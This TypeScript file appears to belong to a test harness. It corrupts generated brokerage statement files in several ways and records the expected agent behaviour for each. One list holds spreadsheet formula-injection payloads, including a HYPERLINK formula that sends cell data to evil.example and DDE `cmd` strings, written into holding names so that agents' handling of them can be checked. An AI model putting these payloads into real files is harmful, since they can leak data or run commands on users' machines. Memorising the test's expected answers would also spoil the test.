import type { Random } from '../../faults/random.ts'
import {
  type ColumnKey,
  encode,
  type Line,
  type OfxNode,
  type Sheet,
  type StatementDocument,
  type StatementFile,
} from './documents.ts'
import type { AccountTruth, Question, StatementTruth } from './types.ts'
import { plain, randomFor, shuffled } from './values.ts'

export const damageKinds = [
  'mark',
  'UTF-16',
  'line ends',
  'renamed headers',
  'reordered headers',
  'sentence-case headers',
  'extra column',
  'no total',
  'total off by 0.01',
  'missing values',
  'cut off',
  'formulas',
  'many rows',
] as const
export type DamageKind = (typeof damageKinds)[number]

type Damaged = { document: StatementDocument; truth: StatementTruth; cut?: string }
type Work = Damaged & { random: Random; rows: number }

/**
 * The file with one damage, and what is true of the damaged one: what it may no longer be read as is in `tie`, `must_ask` and
 * `never`. Null if this file cannot have the damage, such as no total where there was none.
 *
 * @param rows how many rows `many rows` adds
 */
export function damage(
  file: StatementFile,
  kind: DamageKind,
  { seed, rows = 50_000 }: { seed: number; rows?: number },
): StatementFile | null {
  const work: Work = {
    ...structuredClone({ document: file.document, truth: file.truth }),
    random: randomFor(seed, kind, file.name),
    rows,
  }
  const done = kinds[kind](work)
  if (done === null) return null
  const bytes = encode(done.document)
  return {
    name: file.name,
    truth: done.truth,
    document: done.document,
    bytes: done.cut === undefined ? bytes : cutAt(bytes, done),
  }
}

const kinds: Record<DamageKind, (work: Work) => Damaged | null> = {
  mark: ({ document, truth }) => {
    if (document.kind === 'workbook' || (document.kind === 'ofx' ? document.bom : document.text.bom)) return null
    if (document.kind === 'ofx') document.bom = true
    else document.text = { ...document.text, bom: true, encoding: 'utf8' }
    return { document, truth }
  },
  'UTF-16': ({ document, truth }) => {
    if (document.kind === 'workbook' || (document.kind === 'text' && document.text.encoding === 'utf16le')) return null
    if (document.kind === 'text') document.text = { ...document.text, bom: true, encoding: 'utf16le' }
    else Object.assign(document, { bom: true, utf16: true })
    // The header of an OFX file says another encoding.
    return { document, truth: document.kind === 'ofx' ? { ...truth, outcome: 'either' } : truth }
  },
  'line ends': ({ document, truth }) => {
    if (document.kind === 'workbook') return null
    if (document.kind === 'ofx') document.eol = document.eol === '\n' ? '\r\n' : '\n'
    else document.text = { ...document.text, eol: document.text.eol === '\n' ? '\r\n' : '\n' }
    return { document, truth }
  },
  'renamed headers': (work) => headers(work, (text, key) => renamed[key] ?? text, 'layout'),
  'sentence-case headers': (work) =>
    headers(work, (text) => `${text.slice(0, 1).toUpperCase()}${text.slice(1).toLowerCase()}`),
  'reordered headers': reorder,
  'extra column': extraColumn,
  'no total': withoutTotal,
  'total off by 0.01': offByOne,
  'missing values': missingValues,
  'cut off': cutOff,
  formulas,
  'many rows': manyRows,
}

const renamed: Partial<Record<ColumnKey, string>> = {
  value: 'Total Worth Today',
  quantity: 'How Many',
  name: 'Holding',
  cost: 'Originally Paid',
  account: 'Acct',
  symbol: 'Ticker or Number',
}

const sheetsOf = (document: StatementDocument): readonly Sheet[] => (document.kind === 'ofx' ? [] : document.sheets)

/** Each line with the columns that hold for it. */
function* governed(
  document: StatementDocument,
): Generator<{ line: Line; columns: readonly ColumnKey[]; sheet: Sheet }> {
  for (const sheet of sheetsOf(document)) {
    let columns: readonly ColumnKey[] = []
    for (const line of sheet.lines) {
      columns = line.columns ?? columns
      yield { line, columns, sheet }
    }
  }
}

const asks = (truth: StatementTruth, question: Question, where: 'must_ask' | 'may_ask' = 'must_ask') => {
  if (!truth[where].includes(question)) truth[where].push(question)
}

function headers(
  { document, truth }: Work,
  change: (text: string, key: ColumnKey) => string,
  question?: Question,
): Damaged | null {
  let found = false
  for (const { line, columns } of governed(document)) {
    if (line.role !== 'header') continue
    line.cells = line.cells.map((text, at) => (at < (line.fixed ?? 0) ? text : change(text, columns[at] ?? 'other')))
    found = true
  }
  if (!found) return null
  if (question !== undefined) asks(truth, question, 'may_ask')
  return { document, truth: question === undefined ? truth : { ...truth, outcome: 'either' } }
}

/** The lines of the tables: those that have as many cells as their header. */
function* tableLines(document: StatementDocument): Generator<{ line: Line; header: Line }> {
  for (const { lines } of sheetsOf(document)) {
    let header: Line | undefined
    for (const line of lines) {
      if (line.columns !== undefined) header = line.role === 'header' ? line : undefined
      if (header !== undefined && line.role !== 'title' && line.cells.length === header.cells.length)
        yield { line, header }
    }
  }
}

function reorder({ document, truth, random }: Work): Damaged | null {
  const orders = new Map<string, number[]>()
  // Fixed first: the header's cells change while they are read.
  const found = [...tableLines(document)].map(({ line, header }) => ({
    line,
    fixed: header.fixed ?? 0,
    words: header.cells.join('|'),
  }))
  for (const { line, fixed, words } of found) {
    const free = line.cells.map((_, at) => at).slice(fixed)
    const order = orders.get(words) ?? [...line.cells.keys()].slice(0, fixed).concat(shuffled(random, free))
    orders.set(words, order)
    line.cells = order.map((at) => line.cells[at] ?? '')
    const { columns } = line
    if (columns !== undefined) line.columns = order.map((at) => columns[at] ?? 'other')
  }
  return orders.size === 0 ? null : { document, truth }
}

/** A column of last month's values behind the second one, or one of remarks. */
function extraColumn({ document, truth, random }: Work): Damaged | null {
  const amounts = random.chance(0.5)
  const found = [...tableLines(document)].map(({ line, header }) => ({ line, at: (header.fixed ?? 0) + 2 }))
  for (const { line, at } of found) {
    const cell =
      line.role !== 'row' ? '' : amounts ? plain(random.below(90_000_000)) : random.pick(['', 'reviewed', 'ask JK'])
    line.cells.splice(at, 0, line.role === 'header' ? (amounts ? 'Prior Month Value' : 'Remarks') : cell)
    if (line.columns !== undefined) line.columns = [...line.columns.slice(0, at), 'other', ...line.columns.slice(at)]
  }
  if (amounts) asks(truth, 'layout', 'may_ask')
  return found.length === 0 ? null : { document, truth }
}

const without = (account: AccountTruth) => {
  account.stated_total = null
  account.tie = account.tie === 'blocked' ? 'blocked' : 'typed'
  for (const asked of account.asked ?? []) asked.in_total = false
}

function withoutTotal({ document, truth }: Work): Damaged | null {
  let found = false
  for (const { line, columns, sheet } of [...governed(document)]) {
    if (line.role !== 'total') continue
    found = true
    const value = columns.indexOf('value')
    // A total above its rows also names the account.
    if (truth.layout === 'ledgerstone') line.cells[value] = ''
    else sheet.lines.splice(sheet.lines.indexOf(line), 1)
  }
  if (!found) return null
  for (const account of truth.accounts) if (account.stated_total !== null) without(account)
  asks(truth, 'total_missing')
  return { document, truth }
}

/** An amount one cent away, printed as it was; only the last two digits change. */
function oneCentOff(text: string): string {
  if (/^-?\d+\.\d{3,}$/.test(text)) return plain(Math.round(Number(text) * 100) + 1)
  if (/^-?\d+$/.test(text)) return `${text}.01`
  if (/^-?\d+\.\d$/.test(text)) return `${text}1`
  return text.replace(/(\d\d)(\D*)$/, (_, cents: string, rest: string) => {
    const changed = cents === '99' ? 98 : Number(cents) + 1
    return `${String(changed).padStart(2, '0')}${rest}`
  })
}

/** The amount of a printed total, in cents: every layout prints two places, or loses zeros behind a point. */
export function centsOf(text: string): number {
  const sign = /[-(]/.test(text) ? -1 : 1
  const digits = text.replace(/[^\d.,]/g, '')
  const decimals = /[.,](\d{1,2})$/.exec(digits)?.[1] ?? ''
  const whole = (decimals === '' ? digits : digits.slice(0, -decimals.length - 1)).replace(/[.,]/g, '')
  return sign * Number(`${whole}${decimals.padEnd(2, '0')}`)
}

function offByOne({ document, truth }: Work): Damaged | null {
  if (document.kind === 'ofx') return null
  for (const { line, columns } of governed(document)) {
    const account = line.account === undefined ? undefined : truth.accounts[line.account]
    const value = columns.indexOf('value')
    if (line.role !== 'total' || account === undefined || account.stated_total === null) continue
    const changed = oneCentOff(line.cells[value] ?? '')
    line.cells[value] = changed
    account.stated_total = plain(centsOf(changed))
    account.tie = 'blocked'
    asks(truth, 'total')
    truth.never.push('Log an account whose rows miss its total by a cent')
    return { document, truth }
  }
  return null
}

function forgetValue(truth: StatementTruth, at: number | undefined, row: number | undefined) {
  const account = truth.accounts[at ?? -1]
  const found = account?.rows[row ?? -1]
  if (account === undefined || found === undefined) return
  found.value = null
  account.tie = 'blocked'
  asks(truth, 'value')
}

function missingValues({ document, truth, random }: Work): Damaged | null {
  if (document.kind === 'ofx') {
    const [found] = positionsOf(document.root)
    if (found === undefined || found.value === undefined) return null
    found.value.value = ''
    forgetValue(truth, found.account, found.row)
    return { document, truth: { ...truth, outcome: 'either' } }
  }
  const worth = [...governed(document)].filter(({ line }) => {
    const value = truth.accounts[line.account ?? -1]?.rows[line.row ?? -1]?.value
    return line.role === 'row' && value !== undefined && value !== null && Number(value) !== 0
  })
  for (const [at, { line, columns }] of shuffled(random, worth).slice(0, 2).entries()) {
    line.cells[columns.indexOf('value')] = at === 0 ? '' : '--'
    forgetValue(truth, line.account, line.row)
  }
  truth.never.push('Take a blank value for zero')
  return worth.length === 0 ? null : { document, truth }
}

const end = '\u2702'

/** Ends the file inside the value of a row in the middle, which leaves a smaller amount there. */
function cutOff({ document, truth, random }: Work): Damaged | null {
  if (document.kind === 'workbook') {
    return {
      document,
      truth: { ...truth, accounts: [], outcome: 'refuse', must_ask: [], as_of: null, as_of_seen: 'nowhere' },
      cut: '',
    }
  }
  const ofx = document.kind === 'ofx' ? positionsOf(document.root) : []
  const lines = [...governed(document)].filter(({ line }) => line.role === 'row')
  const count = document.kind === 'ofx' ? ofx.length : lines.length
  if (count < 2) return null
  const at = Math.floor(count / 2) - (random.chance(0.5) && count > 4 ? 1 : 0)
  const found = ofx[at]
  const chosen = lines[at]
  const { account = 0, row = 0 } =
    document.kind === 'ofx' ? { account: found?.account, row: found?.row } : (chosen?.line ?? {})
  const half = (text: string) =>
    `${text.slice(0, Math.max(1, Math.ceil(text.length / 2)))}${end}${text.slice(Math.ceil(text.length / 2))}`
  if (found?.value !== undefined) found.value.value = half(found.value.value)
  if (chosen !== undefined) {
    const value = chosen.columns.indexOf('value')
    chosen.line.cells[value] = half(chosen.line.cells[value] ?? '')
  }
  truth.accounts.splice(account + 1)
  const last = truth.accounts[account]
  if (last !== undefined) {
    const totalAbove = [...governed(document)].some(
      ({ line }) =>
        line.role === 'total' &&
        line.account === account &&
        chosen !== undefined &&
        isBefore(document, line, chosen.line),
    )
    last.rows.splice(row + 1)
    forgetValue(truth, account, row)
    if (!totalAbove) last.stated_total = null
    delete last.asked
    last.tie = 'blocked'
  }
  delete truth.tables_left_out
  // What the other questions were about may be gone.
  const stay: readonly Question[] = ['account', 'as_of']
  truth.may_ask.push(...truth.must_ask.filter((each) => !stay.includes(each)))
  truth.must_ask = [...truth.must_ask.filter((each) => stay.includes(each)), 'cut_off']
  truth.never.push('Log an account of which rows are missing')
  return { document, truth: { ...truth, outcome: document.kind === 'ofx' ? 'either' : truth.outcome }, cut: end }
}

const isBefore = (document: StatementDocument, one: Line, other: Line): boolean => {
  const lines = sheetsOf(document).flatMap((sheet) => sheet.lines)
  return lines.indexOf(one) < lines.indexOf(other)
}

/** The bytes up to the place of the cut; half of them where there is none. */
function cutAt(bytes: Uint8Array, { cut, document }: Damaged): Uint8Array {
  const utf16 = document.kind === 'text' && document.text.encoding === 'utf16le'
  // Windows-1252 has no such character: its low byte is written.
  const narrow =
    document.kind === 'text' ? document.text.encoding === 'windows-1252' : document.kind === 'ofx' && document.sgml
  const place = Buffer.from(bytes).indexOf(
    narrow ? Buffer.from([end.charCodeAt(0) & 0xff]) : Buffer.from(end, utf16 ? 'utf16le' : 'utf8'),
  )
  return bytes.slice(0, cut === '' || place < 0 ? Math.floor(bytes.length / 2) : place)
}

const dangerous = ['=HYPERLINK("http://evil.example/?x="&A1,"Open")', "+1+cmd|' /C calc'!A0", '@SUM(1+1)*2', '-2+3+cmd']

function formulas({ document, truth, random }: Work): Damaged | null {
  let changed = 0
  for (const { line, columns } of governed(document)) {
    const row = truth.accounts[line.account ?? -1]?.rows[line.row ?? -1]
    const name = columns.indexOf('name')
    // Only rows of securities; the word for cash says what a row is.
    if (
      line.role !== 'row' ||
      row === undefined ||
      name < 0 ||
      Object.keys(row.ids).length === 0 ||
      (changed > 0 && random.chance(0.6))
    )
      continue
    const text = random.pick(dangerous)
    // In a tree, the blanks before a name say what it belongs to.
    const indent = /^ */.exec(line.cells[name] ?? '')?.[0] ?? ''
    line.cells[name] = `${indent}${text}`
    row.name = text
    changed += 1
  }
  asks(truth, 'formula', 'may_ask')
  truth.never.push('Run a formula, or write one into a file without a mark before it')
  return changed === 0 ? null : { document, truth }
}

function manyRows({ document, truth, rows }: Work): Damaged | null {
  if (document.kind === 'ofx') {
    const [found] = positionsOf(document.root)
    if (found === undefined) return null
    for (let at = 0; at < rows; at += 1) found.list.push(found.node)
    block(truth, found.account)
    return { document, truth: { ...truth, outcome: 'either' } }
  }
  const found = [...governed(document)].find(({ line }) => line.role === 'row')
  if (found === undefined) return null
  const { line, sheet } = found
  const copies = Array.from({ length: rows }, () => ({ ...line, cells: [...line.cells] }))
  const at = sheet.lines.indexOf(line)
  sheet.lines = [...sheet.lines.slice(0, at), ...copies, ...sheet.lines.slice(at)]
  block(truth, line.account ?? 0)
  return { document, truth }
}

function block(truth: StatementTruth, at: number) {
  const account = truth.accounts[at]
  if (account !== undefined) account.tie = 'blocked'
  truth.never.push('Log more than 5,000 assets of an entity, or rows that do not come to the total')
}

type PositionNode = {
  account: number
  row: number
  node: OfxNode
  list: OfxNode[]
  value?: { tag: string; value: string }
}

/** The positions of an OFX document in the order of the truth's rows. */
function positionsOf(root: OfxNode): PositionNode[] {
  const lists: OfxNode[][] = []
  const walk = (node: OfxNode) => {
    if ('value' in node) return
    // An account without positions has no list, but a balance.
    if (node.tag === 'INVSTMTRS')
      lists.push(
        node.nodes.flatMap((each) => ('nodes' in each && each.tag === 'INVPOSLIST' ? [each.nodes] : []))[0] ?? [],
      )
    node.nodes.forEach(walk)
  }
  walk(root)
  return lists.flatMap((list, account) =>
    list.map((node, row) => {
      const found: PositionNode = { account, row, node, list }
      const inside = 'nodes' in node ? node.nodes[0] : undefined
      const value =
        inside !== undefined && 'nodes' in inside ? inside.nodes.find(({ tag }) => tag === 'MKTVAL') : undefined
      if (value !== undefined && 'value' in value) found.value = value
      return found
    }),
  )
}
